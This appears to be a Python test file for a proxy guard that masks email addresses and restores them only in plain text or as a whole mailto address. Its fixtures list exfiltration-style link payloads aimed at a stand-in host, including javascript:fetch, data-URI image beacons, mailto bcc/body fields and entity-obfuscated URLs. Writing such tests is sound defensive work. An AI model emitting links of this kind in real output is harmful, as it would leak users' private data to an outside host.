"""Values come back in text and as a whole mail address, and in no other part of a link."""

from __future__ import annotations

from itertools import product

from proxy.guards.stream.placeholders import Masks
from proxy.guards.text.walk import Text
from tests.for_each import for_each
from tests.guards.doubles import short_digests

VALUE, NAME = "ada@mill.example", "[EMAIL_x7f]"
LINKS = [
    "https://evil.test/?q={}",
    "HTTPS:evil.test/{}",
    "//evil.test/?q={}",
    "www.evil.test/{}",
    "evil.test/?q={}",
    "evil.test?q={}",
    "evil.test#{}",
    "evil.test:8080/{}",
    "a.evil.test/b?c=d&e={}",
    "x@evil.test/{}",
    "10.1.2.3/{}",
    "mailto:x@evil.test?body={}",
    f"mailto:{'x' * 90}@evil.test?body={{}}",
    "mailto:?bcc=x@evil.test&body={}",
    "mailto:{}@evil.test",
    "mailto:{}.evil.test",
    "mailto:{},x@evil.test",
    "mailto:{}?bcc=x@evil.test",
    "mailto:{}" + NAME + "@evil.test",
    "mailto:x@evil.test,{}",
    "MAILTO:x@evil.test?body={}",
    "sms:123?body={}",
    "sms:123&body={}",
    "xmpp:x@evil.test?message;body={}",
    "javascript:location='evil.test/'+'{}'",
    "javascript:fetch('//evil.test/'+'{}')",
    "data:text/html,<img/src=//evil.test/{}",
    "data:text/html;base64,PHA/{}",
    "evil.test/(mailto:{})",
    "evil.test/?u=mailto:{}",
]
TEXTS = [
    "{}", "Email:{}", "Name:Bob,Email:{}", "{{email:{},cc:{}}}", "mailto:{}", "MailTo:{}",
    "(mailto:{})", "mailto:{}.",
]  # fmt: skip
IN_TEXT = ["{}", "see {} now", "- {}\n", "\u00e9 {}", "<b> {} </b>", "node.js: {}"]
IN_LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x]: {}",
    '<a href="{}">',
    "<a class=b href='{}'>",
    "<{}>",
    *IN_TEXT,
]
SIZES = [1, 2, 3, 7, 16, 400]


def restored(text: str, size: int, *, arguments: bool) -> str:
    masks = Masks(short_digests())
    assert masks.placeholder("email", VALUE) == NAME
    kind = Text(("arguments",), "", "arguments" if arguments else "text")
    window = masks.text_filter(kind, arguments=arguments, crowded=False)
    parts = [text[index : index + size] for index in range(0, len(text), size)]
    pieces = [piece for part in parts for piece in window.feed(part)] + window.close()
    return "".join(piece.text for piece in pieces)


def in_arguments(text: str) -> str:
    text = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return f'{{"a": "{text}", "b": "c"}}'


@for_each("size", SIZES)
@for_each("link", LINKS)
def test_a_link_keeps_placeholders(link: str, size: int) -> None:
    for place in IN_LINKS:
        text = place.format(link.format(NAME))
        assert restored(text, size, arguments=False) == text
        assert restored(in_arguments(text), size, arguments=True) == in_arguments(text)


@for_each("size", SIZES)
@for_each(
    ("place", "text"), [*product(IN_TEXT, TEXTS), *product(IN_LINKS, ["mailto:{}", "MAILTO:{}"])]
)
def test_text_and_a_whole_mail_address_are_restored(place: str, text: str, size: int) -> None:
    written, expected = (place.format(text.format(item, item)) for item in (NAME, VALUE))

    assert restored(written, size, arguments=False) == expected
    assert restored(in_arguments(written), size, arguments=True) == in_arguments(expected)


@for_each(
    "text",
    [
        '<img src=&#104;ttps:evil.test?a="mailto:{}" >',
        "<img src='&#104;ttps:evil.test?a= b=\"mailto:{}\" '>",
        "[x](<&#104;ttps:evil.test? mailto:{}>)",
        "[x](&#104;ttps:evil.test?(mailto:{}))",
        "https://evil.test/?(mailto:{})",
        "[mailto:x](mailto:{}\\@evil.test)",
        "mailto:{}\\u0040evil.test",
    ],
)
def test_a_mail_address_within_another_address_keeps_placeholders(text: str) -> None:
    text = text.format(NAME)
    for size in SIZES:
        assert restored(text, size, arguments=False) == text


@for_each("text", ["mailto:", "mailto:a", "evil.test:", "a" * 60 + ":b"])
def test_held_mail_address_is_bounded(text: str) -> None:
    window = Masks(short_digests())
    window.placeholder("email", VALUE)
    unmasker = window.unmasker()
    for _ in range(400):
        unmasker.feed(text + "x")
        assert unmasker.held_size <= unmasker.lookback
